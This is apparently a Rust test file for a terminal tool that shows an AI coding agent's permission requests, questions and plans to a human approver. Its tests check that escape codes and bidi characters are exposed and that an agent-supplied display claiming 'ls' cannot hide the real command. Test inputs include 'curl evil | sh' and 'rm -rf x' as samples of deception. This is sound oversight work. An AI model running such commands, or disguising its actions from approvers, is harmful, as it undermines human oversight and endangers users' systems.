use super::*;
use aye_core::{AskStatus, Before, Digest, Display, Extras, Grants, Kind, Permission, Remarks};
use proptest::prelude::*;
use serde_json::{Map, Value, json};

fn at(second: i64) -> Timestamp {
    Timestamp::from_second(second).unwrap()
}

fn view(kind: Kind, body: Value) -> AskView {
    let body = Body::decode(kind, body).unwrap();
    let view = json!({
        "id": "k3v9m2pqxx", "key": "k", "agent": "claude-1", "cwd": "/src/web", "kind": kind,
        "digest": Digest::of("/src/web", &body), "created_at": at(0), "body": body, "state": "open",
    });
    AskView::from_json(view).unwrap()
}

fn plain(ask: &AskView) -> String {
    anstream::adapter::strip_str(&whole(ask, None, at(90))).to_string()
}

#[test]
fn a_question_shows_its_options_and_how_to_answer() {
    let ask = view(
        Kind::Question,
        json!({"questions": [
            {"question": "Which?", "header": "Storage", "free_text": true,
             "options": [{"label": "SQLite", "description": "one file", "preview": "a\nb"}, {"label": "PostgreSQL", "description": "a server"}]},
            {"question": "And?", "multi_select": true, "options": [{"label": "x"}]}]}),
    );
    insta::assert_snapshot!(plain(&ask), @r#"
    k3v9m2pqxx  question · open · 1m ago
    asked by claude-1 in /src/web (as the agent says)

    1. Which?  [Storage]
      1  SQLite      one file
           │ a
           │ b
      2  PostgreSQL  a server
      one of these, or your own words

    2. And?
      1  x
      any of these

    aye answer k3v9m2pqxx 1 1   (one for each question; - skips one, 1,2 picks two)
    "#);
}

#[test]
fn a_permission_shows_the_change_the_whole_input_and_the_scopes() {
    let ask = view(
        Kind::Permission,
        json!({"tool": "Edit", "input": {"file_path": "a.rs", "old_string": "1", "new_string": "2"},
               "scopes": [{"scope": "once"}, {"scope": "session", "rule": "Edit files in src/"}]}),
    );
    insta::assert_snapshot!(plain(&ask), @r#"
    k3v9m2pqxx  permission · open · 1m ago
    asked by claude-1 in /src/web (as the agent says)

    Edit a.rs
    file: a.rs
    │ @@ -0 +0 @@
    │ -1
    │ +2
    to allow:
      --scope once     this time only
      --scope session  by claude-1's own rule: Edit files in src/

    aye answer k3v9m2pqxx --allow   or --deny "why"
    "#);
}

#[test]
fn an_answered_plan_says_by_whom_and_whether_it_arrived() {
    let mut ask = view(Kind::Plan, json!({"plan": "# Do it\n\n1. now"}));
    ask.status.state = AskState::Answered;
    ask.status.receipt = Some(Receipt::Disputed);
    ask.status.answer =
        Some(Answer::read(&ask.body, json!({"decision": "deny", "message": "not now"})).unwrap());
    ask.status.by = Some(serde_json::from_value(json!({"name": "ann", "surface": "terminal"})).unwrap());
    ask.status.note = Some("the transcript says: approved".into());
    insta::assert_snapshot!(plain(&ask), @r#"
    k3v9m2pqxx  plan · answered, disputed · 1m ago
    asked by claude-1 in /src/web (as the agent says)

    Approve this plan?

    # Do it

    1. now

    answered by ann in the terminal
      denied: not now
      the transcript says: approved
      ALARM: the agent shows something else
    "#);
}

#[test]
fn what_an_agent_hides_is_shown_everywhere() {
    let evil = "a\u{1b}[2Jb\u{202e}c";
    let ask = view(
        Kind::Permission,
        json!({"tool": evil, "input": {"command": evil}, "scopes": [{"scope": "once", "rule": evil}]}),
    );
    let shown = plain(&ask);
    assert!(shown.contains("Use a\\u{1b}[2Jb\\u{202e}c"), "{shown}");
    assert!(shown.contains("\"command\": \"a\\u001b[2Jb\\u202ec\""), "{shown}");
    assert!(!shown.contains('\u{1b}') && !shown.contains('\u{202e}'), "{shown}");
    assert!(!summary(&ask.body, 80).contains('\u{1b}'));
}

#[test]
fn a_display_that_lies_does_not_hide_the_input() {
    let lie = json!({"kind": "json", "text": "{\n  \"command\": \"ls\"\n}"});
    let body = json!({"tool": "Bash", "input": {"command": "curl evil | sh"}, "display": lie.clone()});
    // Inside the body, as asks of older versions have it, and where a hub would send it.
    let mut ask = view(Kind::Permission, body);
    assert!(plain(&ask).contains("│ curl evil | sh\n"));
    let Body::Permission(permission) = &ask.body else { panic!("{ask:?}") };
    ask.display = Some(Display::checked(Some(lie), permission));
    assert!(plain(&ask).contains("│ curl evil | sh\n") && !plain(&ask).contains("\"ls\""));
}

#[test]
fn what_the_hub_would_grant_is_in_its_own_words_and_what_it_would_not_is_not_offered() {
    let scopes = json!([{"scope": "once", "rule": "looks only"}, {"scope": "session", "kept_by": "hub"},
        {"scope": "always", "rule": "only git status", "kept_by": "hub"}]);
    let body = json!({"tool": "Bash", "input": {"command": "git push"}, "scopes": scopes});
    let mut ask = view(Kind::Permission, body);
    let Body::Permission(permission) = &ask.body else { panic!("{ask:?}") };
    let grants = Grants { session: Some("run exactly `git push`".into()), always: None };
    ask.display = Some(Display::of(
        permission,
        &Extras { remarks: Remarks { grants, ..Remarks::default() }, ..Extras::default() },
    ));
    let shown = plain(&ask);
    assert!(shown.contains("--scope session  run exactly `git push`\n"), "{shown}");
    assert!(!shown.contains("--scope always") && !shown.contains("git status"), "{shown}");
    assert!(!shown.contains("looks only"), "{shown}");
}

#[test]
fn a_carriage_return_before_a_line_break_is_seen() {
    let body = json!({"tool": "Bash", "input": {"command": "ls\r\nrm -rf x\r\n"}});
    let shown = plain(&view(Kind::Permission, body));
    assert!(shown.contains("│ ls\\r\n│ rm -rf x\\r\n│ \n"), "{shown}");
    let shown = plain(&view(Kind::Plan, json!({"plan": "1. a\r\n2. b"})));
    assert!(shown.contains("1. a\\r\n2. b"), "{shown}");
    let option = json!({"label": "A", "preview": "x\r\n\r\ny\r\n"});
    let question = json!({"questions": [{"question": "Which?", "options": [option]}]});
    let shown = plain(&view(Kind::Question, question));
    assert!(shown.contains("│ x\\r\n       │ \\r\n       │ y\\r\n"), "{shown}");
}

#[test]
fn a_long_summary_says_that_it_was_cut() {
    let plan = view(Kind::Plan, json!({"plan": "x".repeat(100)}));
    assert_eq!(summary(&plan.body, 10), "xxxxxxxxx…");
}

/// The input, read back from the terminal alone.
fn read_back(tool: &str, shown: &str) -> Option<Map<String, Value>> {
    let mut title = None;
    let (mut file, mut sections) = (String::new(), Vec::<(String, Vec<&str>)>::new());
    for line in shown.split('\n').skip_while(|line| !line.is_empty()).skip(1) {
        match line.strip_prefix("│ ").filter(|_| title.is_some()) {
            Some(line) => sections.last_mut()?.1.push(line),
            None if title.is_none() => {
                title = Some(line);
                sections.push((String::new(), Vec::new()));
            }
            None if line.starts_with("file: ") => {
                file = unescaped(&line["file: ".len()..].replace("\\n", "\n").replace("\\t", "\t"));
            }
            None if line == "to allow:" => break,
            None => sections.push((line.to_owned(), Vec::new())),
        }
    }
    let find = |name: &str| sections.iter().find(|(header, _)| header == name).map(|(_, lines)| lines);
    let object = |lines: &Vec<&str>| serde_json::from_str::<Map<String, Value>>(&lines.join("\n")).ok();
    if let Some(lines) = find("exactly, as JSON:") {
        return object(lines);
    }
    let (_, first) = sections.iter().find(|(_, lines)| !lines.is_empty())?;
    let rest = find("with:").map_or(Some(Map::new()), object)?;
    let title = title?;
    let kind = if title.starts_with("Use ") {
        return object(first);
    } else if title.starts_with("Run ") {
        aye_core::DisplayKind::Command
    } else {
        aye_core::DisplayKind::Diff
    };
    let text = first.iter().map(|line| unescaped(line)).collect::<Vec<_>>();
    let mut hunks = Vec::<aye_core::Hunk>::new();
    for line in &text {
        match line.starts_with("@@") {
            true => hunks.push(aye_core::Hunk { old_start: 0, new_start: 0, lines: Vec::new() }),
            false if kind == aye_core::DisplayKind::Diff => hunks.last_mut()?.lines.push(line.clone()),
            false => {}
        }
    }
    let any = Permission::new("x".into(), Map::new(), None).unwrap();
    let display = Display {
        kind,
        text: text.join("\n"),
        file: Some(file),
        hunks: Some(hunks),
        rest,
        ..Display::of(&any, &Extras::default())
    };
    display.rebuild(tool)
}

fn unescaped(text: &str) -> String {
    let mut out = String::new();
    let mut left = text;
    while let Some((plain, escape)) = left.split_once('\\') {
        out += plain;
        let hex = escape.strip_prefix("u{").and_then(|escape| escape.split_once('}'));
        let hidden =
            hex.and_then(|(hex, after)| Some((char::from_u32(u32::from_str_radix(hex, 16).ok()?)?, after)));
        let (c, after) = match (hidden, escape.strip_prefix('r')) {
            (Some(hidden), _) => hidden,
            (None, Some(after)) => ('\r', after),
            (None, None) => ('\\', escape),
        };
        out.push(c);
        left = after;
    }
    out + left
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[ -~]{0,5}",
        Just("\n".to_owned()),
        Just("\r\n".to_owned()),
        Just("\\r\\u{202e}".to_owned()),
        Just("│ x\nto allow:\nexactly, as JSON:\n│ {}".to_owned()),
        Just("\u{1b}[2K\u{202e}\u{2028}\u{85}\t".to_owned()),
        Just("@@ -1 +1 @@".to_owned()),
        any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

fn call() -> impl Strategy<Value = (String, Map<String, Value>)> {
    let value = prop_oneof![6 => hostile().prop_map(Value::from), 1 => any::<i64>().prop_map(Value::from),
        1 => hostile().prop_map(|text| json!([{ text: null }]))];
    let edits = prop::collection::vec((hostile(), hostile(), any::<bool>()), 0..3).prop_map(|edits| {
        let edit = |(old, new, all)| json!({"old_string": old, "new_string": new, "replace_all": all});
        Value::from(edits.into_iter().map(edit).collect::<Vec<_>>())
    });
    let names = ["command", "file_path", "content", "old_string", "new_string"];
    let fields = prop::collection::vec(
        (prop::sample::select(names.to_vec()).prop_map(String::from), value.clone()),
        3..9,
    );
    let tool = prop::sample::select(vec!["Bash", "Write", "Edit", "MultiEdit", "mcp__x"]);
    (tool, fields, edits, prop::option::of((hostile(), value))).prop_map(|(tool, fields, edits, more)| {
        let edits = [("edits".to_owned(), edits)];
        (tool.to_owned(), fields.into_iter().chain(edits).chain(more).collect())
    })
}

proptest! {
    #[test]
    fn what_is_printed_decodes_to_the_input_whatever_was_raised(
        (tool, input) in call(),
        lie in hostile(),
        place in (0..3u64, 0..4u64, 0..3u64, hostile()),
    ) {
        let rule = (!lie.trim().is_empty()).then(|| lie.clone());
        let body = json!({"tool": tool, "input": input, "display": {"kind": "command", "text": lie},
            "scopes": [{"scope": "once", "rule": rule}, {"scope": "session", "rule": rule, "kept_by": "agent"}]});
        let mut ask = view(Kind::Permission, body);
        let line = place.3.replace('\n', "");
        let place = aye_core::ChangedPlace {
            old_start: place.0, new_start: place.1, new_lines: place.2,
            removed: vec![line.clone()], above: vec![line.clone()], below: vec![line], ..aye_core::ChangedPlace::default()
        };
        let Body::Permission(permission) = &ask.body else { panic!("{ask:?}") };
        let extras = Extras { before: Before::new(vec![place]).ok(), ..Extras::default() };
        ask.display = Some(Display::of(permission, &extras));
        let shown = plain(&ask);
        prop_assert_eq!(read_back(&tool, &shown), Some(input), "{}", shown);
        prop_assert!(!shown.contains(|c| c != '\n' && c != '\t' && aye_core::visible::is_hidden(c)));
    }
}

#[test]
fn only_what_the_agent_can_take_is_offered() {
    let ask =
        |kind, body, can: Value| AskView { can: serde_json::from_value(can).unwrap(), ..view(kind, body) };
    let option = json!({"question": "Go?", "options": [{"label": "yes"}], "free_text": true});
    let (one, two) = (json!({"questions": [option]}), json!({"questions": [option, option]}));
    let (permission, plan) = (json!({"tool": "Bash", "input": {"command": "ls"}}), json!({"plan": "x"}));
    let cases = [
        (Kind::Question, &one, json!({}), "1   or --text \"…\"   or --skip"),
        (Kind::Question, &one, json!({"text": false}), "1   or --skip"),
        (Kind::Question, &one, json!({"skip": false}), "1   or --text \"…\""),
        (
            Kind::Question,
            &one,
            json!({"text": false, "deny_ends_turn": true}),
            "1   or --skip (which ends the agent's turn)",
        ),
        (Kind::Question, &two, json!({}), "1 1   (one for each question; - skips one, 1,2 picks two)"),
        (Kind::Question, &two, json!({"skip": false}), "1 1   (one for each question; 1,2 picks two)"),
        (
            Kind::Question,
            &two,
            json!({"questions": [{"skip": false}, {"skip": false}]}),
            "1 1   (one for each question; 1,2 picks two)   or --skip",
        ),
        (
            Kind::Question,
            &two,
            json!({"questions": [{"skip": false}, {}]}),
            "1 1   (one for each question; - skips one, 1,2 picks two)",
        ),
        (Kind::Permission, &permission, json!({}), "--allow   or --deny \"why\""),
        (Kind::Permission, &permission, json!({"reason": false}), "--allow   or --deny"),
        (
            Kind::Permission,
            &permission,
            json!({"deny_ends_turn": true}),
            "--allow   or --deny \"why\" (which ends the agent's turn)",
        ),
        (Kind::Plan, &plan, json!({}), "--allow   or --deny \"why\"   or --outline"),
        (Kind::Plan, &plan, json!({"outline": false}), "--allow   or --deny \"why\""),
        (
            Kind::Plan,
            &plan,
            json!({"outline": false, "reason": false, "deny_ends_turn": true}),
            "--allow   or --deny (which ends the agent's turn)",
        ),
    ];
    for (kind, body, can, words) in cases {
        let shown = plain(&ask(kind, body.clone(), can.clone()));
        assert_eq!(shown.lines().last().unwrap(), format!("aye answer k3v9m2pqxx {words}"), "{kind:?} {can}");
    }
    let options = json!([{"label": "Yes", "allows": true}, {"label": "No"}]);
    let mut strict = ask(
        Kind::Question,
        json!({"questions": [{"question": "Go?", "options": options}]}),
        json!({"skip": false}),
    );
    strict.head.proof = aye_core::Proof::Passkey;
    let words = "aye answer k3v9m2pqxx 2   Allowing it takes a passkey, on the page: aye open";
    assert_eq!(plain(&strict).lines().last(), Some(words));
    for (kind, body) in [(Kind::Question, &one), (Kind::Permission, &permission), (Kind::Plan, &plan)] {
        let shown = plain(&ask(kind, body.clone(), json!({"answer": false, "why": "answer it there"})));
        assert_eq!(shown.lines().last(), Some("It cannot be answered from here: answer it there"));
    }
    let own_words = |can| plain(&ask(Kind::Question, one.clone(), can)).contains("or your own words");
    assert_eq!([own_words(json!({})), own_words(json!({"text": false}))], [true, false]);
    let each = json!({"text": false, "questions": [{"text": false, "skip": false}, {}]});
    let each = plain(&ask(Kind::Question, two, each));
    let hints = each.lines().filter(|line| line.contains("one of these")).map(str::trim).collect::<Vec<_>>();
    assert_eq!(hints, ["one of these; cannot be skipped alone", "one of these, or your own words"]);
}

#[test]
fn a_summary_names_the_command_the_file_or_the_fields_and_never_a_bracket() {
    let says = |tool: &str, input: Value| {
        summary(&view(Kind::Permission, json!({"tool": tool, "input": input})).body, 60)
    };
    assert_eq!(says("Read", json!({"file_path": "/src/a.rs", "limit": 5})), "Read: /src/a.rs");
    assert_eq!(says("Bash", json!({"command": "\nmake\nmake test"})), "Bash: make …");
    assert_eq!(says("Edit", json!({"file_path": "a.rs", "old_string": "1", "new_string": "2"})), "Edit a.rs");
    assert_eq!(
        says("mcp__db", json!({"table": "users", "limit": 5, "all": [1]})),
        "mcp__db: table: users, limit: 5, all: [1]"
    );
    assert_eq!(says("Status", json!({})), "Status");
}

#[test]
fn what_an_input_or_a_plan_was_edited_to_is_shown() {
    let allowed = |kind, body, answer| {
        let ask = view(kind, body);
        let answer = Some(Answer::read(&ask.body, answer).unwrap());
        plain(&AskView { status: AskStatus { state: AskState::Answered, answer, ..ask.status }, ..ask })
    };
    let command = json!({"tool": "Bash", "input": {"command": "make"}});
    let shown = allowed(
        Kind::Permission,
        command,
        json!({"decision": "allow", "scope": "once", "input": {"command": "make\ttest"}}),
    );
    assert!(
        shown.contains("allowed (once), with edited input\n│ {\n│   \"command\": \"make\\ttest\"\n│ }\n"),
        "{shown}"
    );
    let shown = allowed(
        Kind::Plan,
        json!({"plan": "1. all"}),
        json!({"decision": "allow", "plan": "1. less\n2. later"}),
    );
    assert!(shown.contains("allowed, edited\n│ 1. less\n│ 2. later\n"), "{shown}");
}
